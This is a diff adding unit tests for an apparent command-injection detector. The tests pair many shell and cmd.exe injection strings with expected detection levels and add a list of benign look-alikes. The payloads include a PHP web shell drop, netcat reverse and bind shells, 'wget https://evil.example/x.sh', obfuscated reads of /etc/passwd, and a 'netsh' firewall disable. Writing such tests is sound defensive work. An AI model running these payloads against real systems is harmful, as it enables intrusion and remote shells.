@@ -55,6 +55,12 @@ static void test_separators(void **state)
     assert_int_equal(LVL("; echo \"<?php system($_GET[c]); ?>\" > x.php"), 2);
     assert_int_equal(LVL("|| nc -lvvp 4444 -e /bin/sh"), 1);
     assert_int_equal(LVL("\";perf --version"), 2); /* unknown program, but a switch */
+    assert_int_equal(LVL("time; ansible all -m ping"), 2);
+    assert_int_equal(LVL(";rmt-tar"), 1);
+    assert_int_equal(LVL("| grep root"), 2);           /* a separator opening the value */
+    assert_int_equal(LVL("a=nc&&$a -nlvp 555"), 2);    /* a variable run as the program */
+    assert_int_equal(LVL("c1=c;c2=a;c3=t;$c1$c2$c3 x"), 2);
+    assert_int_equal(LVL(";\n.shell nc 10.0.0.1 4444 -e sh"), 2); /* sqlite3's shell escape */
     assert_string_equal(detail_of("; whoami"), "command after separator");
 }
 
@@ -70,6 +76,17 @@ static void test_substitution(void **state)
     /* markdown / SQL identifiers: only at 3 */
     assert_int_equal(LVL("Run `ls -la` to list files"), 3);
     assert_int_equal(LVL("SELECT `id`, `name` FROM t"), 3);
+    /* process substitution and $( ) closed around a command */
+    assert_int_equal(LVL("<(cat file)"), 2);
+    assert_int_equal(LVL("x $(cat notes) y"), 2);
+    /* arithmetic and parameter expansion exist only in shells */
+    assert_int_equal(LVL("$((7*6))"), 2);
+    assert_int_equal(LVL("$(($()42))"), 2);
+    assert_int_equal(LVL("$[2+2]"), 2);
+    assert_int_equal(LVL("$[]"), 2);
+    assert_int_equal(LVL("${PATH#{}/}"), 2);
+    assert_int_equal(LVL("${HOME:-/tmp}"), 2);
+    assert_int_equal(LVL("${!ref}"), 2);
 }
 
 static void test_obfuscation(void **state)
@@ -87,6 +104,15 @@ static void test_obfuscation(void **state)
     assert_int_equal(LVL("{,ifconfig}"), 1);
     assert_int_equal(LVL(";/\?\?\?/\?\?t /\?\?\?/p\?\?s\?\?"), 1); /* ;/???/??t */
     assert_int_equal(LVL("; /bi[n]/c[a]t /etc/hosts"), 1);
+    assert_int_equal(LVL("garb=adduse[r];$garb pizza"), 1);
+    assert_int_equal(LVL("{l,-lh}s"), 1);     /* brace expansion with a suffix: ls -lhs */
+    assert_int_equal(LVL("{,ip,a}"), 1);
+    assert_int_equal(LVL("{,$\"whoami\",}"), 1);
+    assert_int_equal(LVL("$((7))z -wrapper sh,-c,curl x ."), 1); /* 7z */
+    assert_int_equal(LVL("'TiMe Sh -c whoami"), 2);
+    assert_int_equal(LVL("!-1!-2"), 2);      /* history expansion */
+    assert_int_equal(LVL("~-1"), 2);         /* the directory stack */
+    assert_int_equal(LVL("<a x=\"~+\"/>"), 2);
     assert_string_equal(detail_of(";c''at /etc/passwd"), "obfuscated command");
 }
 
@@ -101,9 +127,34 @@ static void test_other_shapes(void **state)
     assert_int_equal(LVL("$SHELL -c id"), 2);
     assert_int_equal(LVL("FOR /F \"tokens=*\" %G IN ('dir /b') DO echo %G"), 2);
     assert_int_equal(LVL("IF EXIST C:\\pagefile.sys echo yes"), 2);
+    assert_int_equal(LVL("for /d %variable in (set) do command"), 2);
+    assert_int_equal(LVL("if not (2 equ 2) echo hey"), 2);
+    assert_int_equal(LVL("IF \"%~1\" == \"%~2\" (EXIT /B 0)"), 2);
+    assert_int_equal(LVL("IF %_prog:~-1% NEQ \\ (Set _prog=%_prog%\\)"), 2);
+    assert_int_equal(LVL("if (AA) == (AA) echo same"), 2);
+    assert_int_equal(LVL("if/i a==b foo"), 2);
+    /* cmd.exe programs, switches glued on or not */
+    assert_int_equal(LVL("view=image.jpg&bcdboot/r file.txt"), 1);
+    assert_int_equal(LVL("x&bcdboot < file.txt"), 1);
+    assert_int_equal(LVL("netsh firewall set opmode disable"), 2);
+    assert_int_equal(LVL("net view"), 2);
+    /* shell aliases */
+    assert_int_equal(LVL("alias a=b"), 2);
+    assert_int_equal(LVL("alias 'letter'=curl&letter google.com"), 2);
+    assert_int_equal(LVL("alias +m a=b"), 2);
+    /* output sent into a system directory */
+    assert_int_equal(LVL(">/tmp/curl"), 2);
+    assert_int_equal(LVL("ls 2>/dev/null"), 2);
     assert_int_equal(LVL("x=\"cat /etc/passwd\""), 2);
     /* a value that is a command line */
     assert_int_equal(LVL("whoami"), 2);
+    assert_int_equal(LVL("uname"), 3); /* also a common parameter name */
+    assert_int_equal(LVL("ansible-galaxy collection install community.general\n"), 2);
+    assert_int_equal(LVL("cscli alerts list"), 2);
+    assert_int_equal(LVL("chef-shell\n"), 2);
+    assert_int_equal(LVL("shutdown\n"), 2);
+    assert_int_equal(LVL("bin/chef"), 2);
+    assert_int_equal(LVL("c99 -wrapper sh,-c,curl google.com ."), 2);
     assert_int_equal(LVL("uname -a"), 2);
     assert_int_equal(LVL("cat /etc/hosts"), 2);
     assert_int_equal(LVL("wget https://evil.example/x.sh"), 2);
@@ -128,7 +179,18 @@ static void test_benign(void **state)
         "<b id=\"id1\">x</b>", "a=1&uname=john&id=5", "zsh%20is%20the%20best!",
         "if%20all%20else%20fails%20call%20grandma", "if x == 1: print(x)", "/* BAR */ UNION", "1 between 1 AND `id` having 0",
         "Mr. & Mrs. Smith; Dr. Jones", "Q&A; set", "data:image/png;base64,iVBORw0KGgo=",
-        "The zip on my coat is stuck", "which one?", "C# and F#", "<3", "~user"};
+        "The zip on my coat is stuck", "which one?", "C# and F#", "<3", "~user",
+        /* CRS's benign look-alikes and the like */
+        "I see, so your alias is not = to your name", "known by the alias \"pineapple\" online",
+        "time null space\n", ";performance", ">/tmp", ">/test.environment", "~z", "~5 min read",
+        "if (a == b) return;", "if x == 1 then return true", "if foo==", "ping 127.0.0.1",
+        "kills foo bar", "rc", "Hello!-1", "Wow!!", "$[0].name", "$['store']", "$.store.book[*]",
+        "Hello ${name}, welcome!", "${user.firstName}", "Cost is $5 ($10 off)", "/cgi-bin/search.cgi",
+        "{x, y}", "{1,2,3}", "fields={id,name}", "data[index]", "page[1]", "uptime", "netstat",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/124.0.0.0 Safari/537.36",
+        "https://www.example.com/search?q=shoes&size=10&color=red", "docs/intro", "/docs/intro",
+        "For more info, call us; for sales, press 1.", "alias for the field name"};
     for (size_t i = 0; i < sizeof ok / sizeof *ok; i++) {
         vigil__finding f;
         if (vigil__detect_cmd(ok[i], strlen(ok[i]), 2, &f))
@@ -149,7 +211,9 @@ static void test_robustness(void **state)
     char *buf = malloc(n);
     assert_non_null(buf);
     static const char *const pats[] = {"; ls ", "=ls", "`", "(", "$IFS", "{,", "|", "'",
-                                       "x=cat -a -b ", "; cat a a a a a a a a "};
+                                       "x=cat -a -b ", "; cat a a a a a a a a ", "${a#", "$((",
+                                       "$[1+", "{a,", ";for %a in (x", ";if (", "$a", "!-1",
+                                       "~-", ">/tmp/", "{l,-lh}s", ";alias a"};
     for (size_t p = 0; p < sizeof pats / sizeof *pats; p++) {
         size_t l = strlen(pats[p]);
         for (size_t i = 0; i < n; i++)
